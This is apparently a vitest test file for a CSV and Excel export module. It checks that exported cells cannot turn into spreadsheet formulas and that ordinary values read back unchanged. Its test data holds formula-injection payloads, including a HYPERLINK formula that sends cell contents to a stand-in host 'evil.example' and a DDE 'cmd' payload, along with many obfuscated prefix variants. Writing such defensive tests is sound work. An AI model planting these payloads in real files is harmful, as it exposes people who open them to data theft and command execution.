// CSV and Excel files: written values are read back, and no text becomes a formula.
import fc from 'fast-check';
import papaparse from 'papaparse';
import readExcelFile from 'read-excel-file/node';
import { describe, expect, test } from 'vitest';
import { type Cell, cellOf, looksLikeFormula, type Value } from '../../shared/kinds/cells.ts';
import { formats } from './formats.ts';

/** A file of the rows, in parts of two. */
async function fileOf(format: 'csv' | 'xlsx', headers: readonly string[], rows: readonly (readonly Value[])[]): Promise<Buffer> {
  const cells = rows.map((row) => row.map(cellOf));
  async function* parts() {
    for (let at = 0; at < cells.length; at += 2) yield Buffer.from(formats[format].rows(cells.slice(at, at + 2), at + 1));
  }
  const chunks: Uint8Array[] = [];
  for await (const chunk of formats[format].file('A list/with: signs', headers, parts())) chunks.push(chunk);
  return Buffer.concat(chunks);
}

/** Reads the file as a program that opens it, with headers. */
async function readBack(format: 'csv' | 'xlsx', file: Buffer): Promise<unknown[][]> {
  if (format === 'xlsx') return (await readExcelFile(file))[0]?.data ?? [];
  return papaparse.parse<string[]>(file.toString('utf8').replace(/^\uFEFF/, ''), { newline: '\r\n', skipEmptyLines: false }).data.slice(0, -1);
}

const formulas: readonly (readonly [string, string])[] = [
  ['an equals sign', '=HYPERLINK("http://evil.example","x")'],
  ['a plus', '+27831234567'],
  ['a minus', '-2+3'],
  ['an at sign', '@SUM(A1)'],
  ['a tab', '\t=1+1'],
  ['a tab before a plain word', '\tword'],
  ['a carriage return', '\r=1+1'],
  ['a line feed', '\n=1+1'],
  ['a full-width equals sign', '＝1+1'],
  ['a full-width plus', '＋1'],
  ['a full-width minus', '－1'],
  ['a full-width at sign', '＠SUM(A1)'],
  ['a small equals sign', '﹦1+1'],
  ['a space', ' =1+1'],
  ['many spaces', '     -1'],
  ['a space and a full-width sign', ' ＝1+1'],
  ['a space that does not break', '\u00a0=1+1'],
  ['an ideographic space', '\u3000@A1'],
  ['a byte order mark', '\ufeff=1+1'],
  ['a zero-width space', '\u200b=1+1'],
];

/**
 * Reads a CSV file as a spreadsheet does whose list separator is a semicolon and that accepts quotes only at the start of a cell: line breaks in a cell
 * end its row.
 */
const partedBySemicolons = (file: Buffer): string[] =>
  file
    .toString('utf8')
    .slice(1)
    .split(/[;\t\r\n]/)
    .map((cell) => cell.replace(/^""/, ''));

test.each([
  ['a semicolon', 'Guards;=HYPERLINK("http://evil.example?"&A1,"x");'],
  ['a semicolon and a blank', 'Guards; =1+1;'],
  ['a semicolon and a full-width sign', 'Guards;＝1+1;'],
  ['a semicolon and a quote', 'Guards;"=1+1;'],
  ['a tab', 'Guards\t+1;'],
  ['a line break', "Guards\r\n-2+cmd|'/C calc'!A0;"],
  ['a line break and a semicolon', 'Guards\n;@SUM(A1);'],
])('attack 25: csv has no cell that begins with a formula after %s', async (_, text) => {
  const cells = partedBySemicolons(await fileOf('csv', ['A', 'B', 'C'], [['plain', text, 'plain; and = plain']]));

  expect(cells.filter(looksLikeFormula)).toEqual([]);
  expect(cells.join('')).toContain(' and = plain');
});

describe.each(['csv', 'xlsx'] as const)('%s', (format) => {
  test.each(formulas)('attack 25: puts an apostrophe before a text that begins with %s', async (_, text) => {
    const [, row] = await readBack(format, await fileOf(format, ['A', 'B'], [['plain', text]]));

    // In CSV, text after a tab or line break may be read as a separate cell, so it is guarded too.
    const guarded = format === 'csv' ? text.replace(/^[\t\r\n](?==)/, "$&'") : text;
    expect(String(row?.[1]).replace(/\r\n?/g, '\n')).toBe(`'${guarded}`.replace(/\r\n?/g, '\n'));
  });

  test('leaves numbers, including negative ones, and other texts unchanged', async () => {
    const [, row] = await readBack(
      format,
      await fileOf(format, ['A', 'B', 'C', 'D', 'E', 'F'], [[-12.5, 'a=b', 'Ané’s "Café", 1; 2', null, true, '2026-11-21T05:00:00.000Z']]),
    );

    expect(row?.map((value) => String(value ?? ''))).toEqual(['-12.5', 'a=b', 'Ané’s "Café", 1; 2', '', 'yes', '2026-11-21T05:00:00.000Z']);
    if (format === 'xlsx') expect(typeof row?.[0]).toBe('number');
  });

  test('returns every printable text unchanged', async () => {
    const text = fc
      .string({ unit: 'grapheme', minLength: 1, maxLength: 20 })
      .filter((one) => /^[\p{L}\p{N}]/u.test(one) && one.trim() === one && !/[\p{Cc};]/u.test(one));

    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), async (rows) => {
        expect((await readBack(format, await fileOf(format, ['A', 'B'], rows))).slice(1)).toEqual(rows);
      }),
      { numRuns: 40 },
    );
  });

  test('numbers its rows across parts', async () => {
    const rows = Array.from({ length: 7 }, (_, at) => [`row ${at}`]);

    expect((await readBack(format, await fileOf(format, ['A'], rows))).slice(1)).toEqual(rows);
  });
});

test('attack 25: a workbook contains no formula, whatever its cells contain', async () => {
  const xml = formats.xlsx.rows([formulas.map(([, text]) => cellOf(text)) as Cell[]], 1);

  expect(xml).not.toContain('<f');
  expect(xml.match(/ t="inlineStr"/g)).toHaveLength(formulas.length);
});

test('a workbook leaves out characters that XML does not allow', async () => {
  const [, row] = await readBack('xlsx', await fileOf('xlsx', ['A'], [['a\u0000b\ud800c<&>\u000bd']]));

  expect(row).toEqual(['abc<&>d']);
});

test('a workbook goes beyond column Z', async () => {
  const wide = Array.from({ length: 60 }, (_, at) => `c${at}`);

  expect(await readBack('xlsx', await fileOf('xlsx', wide, [wide]))).toEqual([wide, wide]);
});
